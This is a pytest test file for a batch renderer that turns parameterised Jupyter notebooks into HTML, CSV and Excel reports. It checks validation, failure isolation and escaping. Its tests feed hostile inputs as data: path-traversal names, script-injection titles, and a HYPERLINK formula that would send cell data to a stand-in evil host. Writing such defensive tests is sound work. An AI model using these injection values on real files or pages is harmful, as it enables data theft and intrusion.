"""The batch renderer: validation before kernels, atomic placement, failures, index, dask.

Most tests use tiny fixture notebooks built here (not the report notebooks), so they test
the renderer itself; tests/test_notebooks.py executes the real report notebooks.
"""
from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import unquote

import nbformat
import pytest

from html_links import index_links
from nbformat.v4 import new_code_cell, new_notebook

from hpresearch.i18n import t
from hpresearch.errors import HPResearchError, UsageError
from hpresearch.render import batch as render
from hpresearch.render import executor, index, ownership, placement
from hpresearch.render import plan as planning
from hpresearch.render.jobs import JobResult, ReportJob, inside, safe_name

ROOT = Path(__file__).resolve().parents[1]

PARAMS = '''lang: str = "en"  # report language: vi or en
seed: int = 0  # random seed of the table
boom: bool = False  # raise on purpose
wait: float = 0.0  # seconds to sleep after writing the marker
marker: str = ""  # file written when the kernel reaches the body
title: str = "Fixture report"  # report title'''

BODY = '''import time
from pathlib import Path
import numpy as np
import pandas as pd
from hpresearch.report import display
from hpresearch.i18n import Localizer
L = Localizer(lang)
display.report_header({"title": title, "boundary": "pre_merger", "basis": "gso"}, L)
if marker:
    Path(marker).write_text("started")
time.sleep(wait)
assert not boom, "boom requested"
rng = np.random.default_rng(seed)
display.table(pd.DataFrame({"year": [2024, 2025, 2026], "value": rng.normal(size=3),
                           "label": [title] * 3}), "draws", L)
print("secret_code_marker = 42")'''


def _fixture_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "nbs"
    folder.mkdir()
    nb = new_notebook()
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3",
                                 "language": "python"}
    nb.cells = [new_code_cell("import os", id="c0"),
                new_code_cell(PARAMS, metadata={"tags": ["parameters"]}, id="c1"),
                new_code_cell(BODY, id="c2")]
    nbformat.write(nb, folder / "10_fixture.ipynb")
    return folder


@pytest.fixture
def nbs(tmp_path):
    return _fixture_dir(tmp_path)


def _plan(nbs, **params):
    return planning.plan(notebooks=["10_fixture"], langs=["en"], notebooks_dir=nbs,
                       parameters=params, cell_timeout=60)


# ----------------------------------------------------------------------- no kernel needed
def test_safe_names_refuse_paths():
    for bad in ("../evil", "a/b", "..", "", "Plan", "plan yaml", "/etc/passwd", "x" * 80):
        with pytest.raises(UsageError):
            safe_name(bad, "scenario")
    assert safe_name("electronics_shock", "scenario") == "electronics_shock"
    with pytest.raises(UsageError, match="outside"):
        inside(Path("/tmp/out"), "../x")


def test_unknown_parameter_wrong_type_and_domain_fail_before_any_kernel(nbs, monkeypatch):
    monkeypatch.setattr(executor.WarmKernel, "ensure",
                        lambda self: pytest.fail("a kernel was started"))
    with pytest.raises(UsageError, match="not a parameter of any selected notebook"):
        _plan(nbs, sead=3)
    with pytest.raises(UsageError, match="'seed': value 'x' is not an integer"):
        _plan(nbs, seed="x")
    with pytest.raises(UsageError, match=r"'seed': value -1 must be an integer seed"):
        _plan(nbs, seed=-1)
    with pytest.raises(UsageError, match="use --lang"):
        _plan(nbs, lang="en")
    with pytest.raises(UsageError, match="not a report notebook"):
        planning.plan(notebooks=["nope"], notebooks_dir=nbs)
    with pytest.raises(UsageError, match="not a valid name"):
        planning.plan(notebooks=["../10_fixture"], notebooks_dir=nbs)


@pytest.mark.parametrize("value,needle", [("\x1b[2Jx", "control character"),
                                          ("a" * 5000, "at most 1000 characters"),
                                          ("line\nbreak", "control character")])
def test_text_parameters_refuse_escapes_and_floods(nbs, value, needle):
    with pytest.raises(UsageError, match=needle):
        _plan(nbs, title=value)


def test_plan_builds_validated_jobs(nbs):
    jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs,
                       parameters={"seed": 5, "wait": 0})
    assert [j.stem for j in jobs] == ["10_fixture.vi", "10_fixture.en"]
    assert jobs[0].parameters == {"seed": 5, "wait": 0.0, "lang": "vi"}
    assert isinstance(jobs[0].parameters["wait"], float)


def test_cli_refuses_dotdot_scenario_and_writes_nothing(tmp_path):
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "hpresearch", "render", "../evil", "--out",
                           str(out)], capture_output=True, text=True, cwd=ROOT,
                          env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert proc.returncode == 2
    assert proc.stderr.startswith("error: scenario: value '../evil' is not a valid name")
    assert len(proc.stderr.strip().splitlines()) == 1
    assert not out.exists()


def test_cli_unknown_parameter_is_an_error(tmp_path):
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "hpresearch", "render", "--notebook",
                           "00_data_overview", "-p", "no_such_param", "1", "--out", str(out)],
                          capture_output=True, text=True, cwd=ROOT,
                          env=dict(os.environ, PYTHONPATH=str(ROOT)))
    assert proc.returncode == 2 and "no_such_param" in proc.stderr
    assert not out.exists()


def _job(stem_notebook="10_fixture", title="T"):
    return ReportJob(notebook=stem_notebook, notebook_path="/nonexistent.ipynb", lang="en",
                     parameters={}, title=title)


def test_failed_result_keeps_previous_report_and_places_failed_notebook(tmp_path):
    job = _job()
    good = JobResult(job, True, 1.0, "", {"10_fixture.en.html": b"<p>v1</p>",
                                          "tables/a.csv": b"x\n1\n"},
                     {"stem": job.stem, "notebook": job.notebook, "lang": "en",
                      "title": "T", "rendered_at": "2026-01-01T00:00:00+00:00"})
    placement.place(good, tmp_path)
    bad = JobResult(job, False, 1.0, "ValueError: nope", {"10_fixture.en.ipynb": b"{}"})
    placement.place(bad, tmp_path)
    assert (tmp_path / "10_fixture.en" / "10_fixture.en.html").read_bytes() == b"<p>v1</p>"
    assert (tmp_path / "10_fixture.en.failed.ipynb").read_bytes() == b"{}"
    entries = index.collect(tmp_path)
    assert entries[0]["good"] and entries[0]["failed"]["error"] == "ValueError: nope"
    placement.place(good, tmp_path)  # success again clears the failure markers
    assert not (tmp_path / "10_fixture.en.failed.ipynb").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == [ownership.RECORD, "10_fixture.en"]


def test_artifact_names_cannot_escape(tmp_path):
    job = _job()
    evil = JobResult(job, True, 1.0, "", {"../evil.html": b"x"}, {"stem": job.stem})
    with pytest.raises(HPResearchError):
        placement.place(evil, tmp_path)
    assert not (tmp_path.parent / "evil.html").exists()
    assert [p.name for p in tmp_path.iterdir()] == [ownership.RECORD]
    assert ownership.load(tmp_path) == {}  # the staging folder is forgotten with it


def test_index_escapes_titles():
    entries = [{"stem": "02_scenario_report.x.en", "failed": None, "good": {
        "stem": "02_scenario_report.x.en", "notebook": "02_scenario_report", "lang": "en",
        "title": "<script>alert(1)</script>", "scenario": "x",
        "scenario_title": "<script>alert(2)</script>", "rendered_at": "now",
        "files": ["02_scenario_report.x.en.html"]}}]
    page = index.render_index(entries)
    assert "<script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "alert(2)" not in page or "&lt;script&gt;alert(2)&lt;/script&gt;" in page


def test_index_marks_requirements_faster_than_credible():
    import pandas as pd

    def row(scenario, med_status, p80_status, credible):
        return {"scenario": scenario, "title_en": f"{scenario} - x", "title_vi": f"{scenario} - x",
                "boundary": "merged", "basis": "gso", "year": 2030, "share_median": 0.23,
                "share_p10": 0.15, "share_p90": 0.33, "share_deterministic": 0.21,
                "official_target": 0.35, "official_target_qualifier": "gt",
                "p_official_target": 0.08, "goal40": 0.3115, "p_goal40": 0.13,
                "required_median": 6.5, "required_median_status": med_status,
                "required_p80": 16.6, "required_p80_status": p80_status,
                "credible_share": credible, "pace_limit": 0.02}

    summary = pd.DataFrame([row("a", "solved", "too_fast", 0.2965),
                            row("b", "too_fast", "too_fast", 0.2883)])
    page = index.render_index([], summary=summary)
    # one figure per cell (issue 20), each named for the phone layout; only fast ones marked
    cells = re.findall(r'<td data-label="([^"]*)">([^<]*)</td>', page)
    median = t("index.ans_required", "en")
    p80 = t("index.ans_required_p80", "en")
    assert [v for k, v in cells if k == median] == ["6.5", "6.5*"]   # en: rows a, b
    assert [v for k, v in cells if k == p80] == ["16.6*", "16.6*"]
    assert ("6,5", "16,6*") == tuple(v for k, v in cells if v.startswith(("6,", "16,")))[:2]
    assert "(equivalent: 31.2%)" in page and " · " not in "".join(v for _, v in cells)
    assert ("The levels marked * would make the share rise by more than 2.0 percentage points "
            "in a single year, faster than is credible; at a credible pace the 2030 share reaches "
            "at most 28.8%–29.6%, by scenario.") in page
    assert "tăng hơn 2,0 điểm phần trăm" in page and "28,8%–29,6%" in page
    calm = pd.DataFrame([row("a", "solved", "solved", 0.30)])
    assert "faster than is credible" not in index.render_index([], summary=calm)


# ------------------------------------------------------------------------ kernels (slow)
@pytest.mark.slow
def test_render_outputs_and_failure_isolation(nbs, tmp_path):
    out = tmp_path / "out"
    jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs,
                       parameters={"title": "<script>alert('x')</script>"})
    summary = render.render(jobs, out, n_jobs=1, progress=False)
    assert summary.ok, [r.error for r in summary.results]
    for lang in ("vi", "en"):
        folder = out / f"10_fixture.{lang}"
        names = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
        assert names == {f"10_fixture.{lang}.html", f"10_fixture.{lang}.ipynb",
                         f"10_fixture.{lang}.xlsx", "tables/draws.csv", "manifest.json"}
        page = (folder / f"10_fixture.{lang}.html").read_text(encoding="utf-8")
        assert "secret_code_marker = 42" in page  # printed output is kept …
        assert "np.random.default_rng" not in page and "import time" not in page  # … code not
        assert 'class="jp-InputArea' not in page and f'<html lang="{lang}"' in page
        assert "<script>alert('x')</script>" not in page
    index_page = (out / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in index_page and "&lt;script&gt;alert" in index_page
    links = index_links(out)
    assert links and all((out / unquote(h)).is_file() for h in links)
    before = (out / "10_fixture.en" / "manifest.json").read_text()

    # one report raises: the other completes, the previous good one stays, exit non-zero
    jobs = planning.plan(notebooks=["10_fixture"], langs=["en"], notebooks_dir=nbs,
                       parameters={"boom": True})
    jobs += planning.plan(notebooks=["10_fixture"], langs=["vi"], notebooks_dir=nbs,
                        parameters={"seed": 9})
    summary = render.render(jobs, out, n_jobs=1, progress=False)
    assert [r.ok for r in summary.results] == [False, True]
    assert "boom requested" in summary.results[0].error
    assert (out / "10_fixture.en" / "manifest.json").read_text() == before
    assert (out / "10_fixture.en.failed.ipynb").is_file()
    assert json.loads((out / "10_fixture.vi" / "manifest.json").read_text())[
        "parameters"]["seed"] == 9
    assert all((out / unquote(h)).is_file() for h in index_links(out))


@pytest.mark.slow
def test_cli_render_writes_formulas_as_text(nbs, tmp_path):
    import zipfile

    import openpyxl

    out = tmp_path / "out"
    title = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    env = dict(os.environ, PYTHONPATH=str(ROOT), HPRESEARCH_NOTEBOOKS_DIR=str(nbs))
    proc = subprocess.run([sys.executable, "-m", "hpresearch", "render", "--notebook",
                           "10_fixture", "--lang", "en", "--out", str(out), "-p", "title", title,
                           "--no-progress"], capture_output=True, text=True, cwd=ROOT, env=env)
    assert proc.returncode == 0, proc.stderr
    folder = out / "10_fixture.en"
    csv_text = (folder / "tables" / "draws.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in csv_text and "\n=HYPERLINK" not in csv_text
    xlsx = folder / "10_fixture.en.xlsx"
    with zipfile.ZipFile(xlsx) as z:
        assert not any("<f>" in z.read(n).decode("utf-8", "replace") for n in z.namelist())
    wb = openpyxl.load_workbook(xlsx)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type in ("s", "n") for c in cells)
    assert any(c.value == title for c in cells)


@pytest.mark.slow
def test_same_seed_gives_identical_tables_and_parallel_workers(nbs, tmp_path):
    jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs,
                       parameters={"seed": 3})
    a = render.render(jobs, tmp_path / "a", n_jobs=2, progress=False)
    b = render.render(jobs, tmp_path / "b", n_jobs=1, progress=False)
    assert a.ok and b.ok
    for lang in ("vi", "en"):
        rel = Path(f"10_fixture.{lang}") / "tables" / "draws.csv"
        assert (tmp_path / "a" / rel).read_bytes() == (tmp_path / "b" / rel).read_bytes()


@pytest.mark.slow
def test_dead_kernel_fails_only_its_report(nbs, tmp_path):
    nb = nbformat.read(nbs / "10_fixture.ipynb", as_version=4)
    nb.cells[2].source = "import os\nif boom:\n    os._exit(1)\n" + nb.cells[2].source
    nbformat.write(nb, nbs / "10_fixture.ipynb")
    jobs = planning.plan(notebooks=["10_fixture"], langs=["en"], notebooks_dir=nbs,
                       parameters={"boom": True})
    jobs += planning.plan(notebooks=["10_fixture"], langs=["vi"], notebooks_dir=nbs)
    summary = render.render(jobs, tmp_path / "out", n_jobs=1, progress=False)
    assert [r.ok for r in summary.results] == [False, True]
    assert "Dead" in summary.results[0].error or "died" in summary.results[0].error
    _assert_failure_record(tmp_path / "out", "10_fixture.en", "dead kernel")


@pytest.mark.slow
def test_hung_cell_times_out_and_fails_only_its_report(nbs, tmp_path):
    jobs = planning.plan(notebooks=["10_fixture"], langs=["en"], notebooks_dir=nbs,
                       parameters={"wait": 120.0}, cell_timeout=3)
    jobs += planning.plan(notebooks=["10_fixture"], langs=["vi"], notebooks_dir=nbs)
    summary = render.render(jobs, tmp_path / "out", n_jobs=1, progress=False)
    assert [r.ok for r in summary.results] == [False, True]
    assert "Timeout" in summary.results[0].error or "timed out" in summary.results[0].error
    nb = _assert_failure_record(tmp_path / "out", "10_fixture.en", "cell timeout")
    failed_cells = [c for c in nb.cells if c.metadata.get("papermill", {}).get("status") == "failed"]
    assert failed_cells and any(o.get("output_type") == "error" for o in failed_cells[0].outputs)


def _assert_failure_record(out: Path, stem: str, kind: str):
    """The documented failure record: <stem>.failed.ipynb (partial) and .failed.json."""
    marker = json.loads((out / f"{stem}.failed.json").read_text())
    assert marker["error"].startswith(kind) and marker["notebook_file"] == f"{stem}.failed.ipynb"
    nb = nbformat.read(out / f"{stem}.failed.ipynb", as_version=4)
    assert nb.metadata["hpresearch"]["failure"]["kind"] == kind
    assert f"{stem}.failed.ipynb" in (out / "index.html").read_text()
    return nb


def _default_sigint():
    """In the child: SIGINT back to its default. A shell starts background jobs (`make test &`,
    nohup, some CI runners) with SIGINT ignored, and Python then installs no Ctrl-C handler."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


@pytest.mark.slow
@pytest.mark.parametrize("sig,jobs", [(signal.SIGINT, "1"), (signal.SIGINT, "2"),
                                      (signal.SIGKILL, "1")],
                         ids=["sigint", "sigint-workers", "sigkill"])
def test_interrupted_render_leaves_previous_report_intact(nbs, tmp_path, sig, jobs):
    out = tmp_path / "out"
    plan_jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs)
    assert render.render(plan_jobs, out, n_jobs=1, progress=False).ok
    snapshot = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()
                and p.name != "index.html" and p.name != ownership.RECORD}
    marker = tmp_path / "started"
    env = dict(os.environ, PYTHONPATH=str(ROOT), HPRESEARCH_NOTEBOOKS_DIR=str(nbs))
    proc = subprocess.Popen([sys.executable, "-m", "hpresearch", "render", "--notebook",
                             "10_fixture", "--lang", "all", "--jobs", jobs, "--out", str(out),
                             "-p", "wait", "60", "-p", "marker", str(marker), "-p", "seed", "99",
                             "--no-progress"],
                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True, preexec_fn=_default_sigint)
    try:
        for _ in range(600):
            if marker.exists():
                break
            time.sleep(0.1)
        assert marker.exists(), "the fixture kernel never started"
        time.sleep(0.5)
        proc.send_signal(sig)
        _, err = proc.communicate(timeout=90)
    finally:
        if proc.poll() is None:
            proc.kill()
    now = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()
           and not any(part.startswith(".") for part in p.relative_to(out).parts)}
    failed = {p for p in now if ".failed." in p.name}
    assert {p: now[p] for p in now if p not in failed and p.name != "index.html"} == snapshot
    if sig == signal.SIGINT:
        # one line, exit 130, no traceback; the interrupted report's failure record is
        # written beside the previous good one, and the index shows both
        assert proc.returncode == 130, err
        assert err.strip() == "error: interrupted" or err.strip().endswith("error: interrupted")
        assert "Traceback" not in err and "Task exception" not in err, err
        stems = {p.name.split(".failed.")[0] for p in failed}
        assert stems and stems <= {"10_fixture.vi", "10_fixture.en"}
        for stem in stems:
            _assert_failure_record(out, stem, "interrupted")
        page = (out / "index.html").read_text(encoding="utf-8")
        assert "10_fixture.vi/10_fixture.vi.html" in page  # the previous report still linked
    # the next render cleans any staging debris and still works
    assert render.render(plan_jobs, out, n_jobs=1, progress=False).ok
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == [ownership.RECORD]
    assert not [p for p in out.iterdir() if ".failed." in p.name]
    assert sorted(ownership.load(out)) == ["10_fixture.en", "10_fixture.vi", "index.html"]


@pytest.mark.slow
def test_dask_executor_on_a_local_cluster(nbs, tmp_path):
    distributed = pytest.importorskip("distributed")
    with distributed.LocalCluster(n_workers=1, threads_per_worker=1, processes=False,
                                  dashboard_address=None) as cluster:
        jobs = planning.plan(notebooks=["10_fixture"], langs=["vi", "en"], notebooks_dir=nbs,
                           parameters={"seed": 3})
        summary = render.render(jobs, tmp_path / "out", scheduler=cluster.scheduler_address,
                                progress=False)
    assert summary.ok, [r.error for r in summary.results]
    render.render(jobs, tmp_path / "local", n_jobs=1, progress=False)
    rel = Path("10_fixture.en") / "tables" / "draws.csv"
    assert (tmp_path / "out" / rel).read_bytes() == (tmp_path / "local" / rel).read_bytes()


def test_unreachable_scheduler_is_a_usage_error(nbs, tmp_path):
    jobs = _plan(nbs)
    with pytest.raises(UsageError, match="^scheduler: value 'tcp://127.0.0.1:9' cannot be "):
        render.render(jobs, tmp_path / "out", scheduler="tcp://127.0.0.1:9", progress=False)


def test_status_line_format():
    job = _job()
    line = render._status_line(JobResult(job, False, 1.25, "ValueError: x"))
    assert re.match(r"\[FAILED\] 10_fixture\.en +1\.2 s  ValueError: x", line)
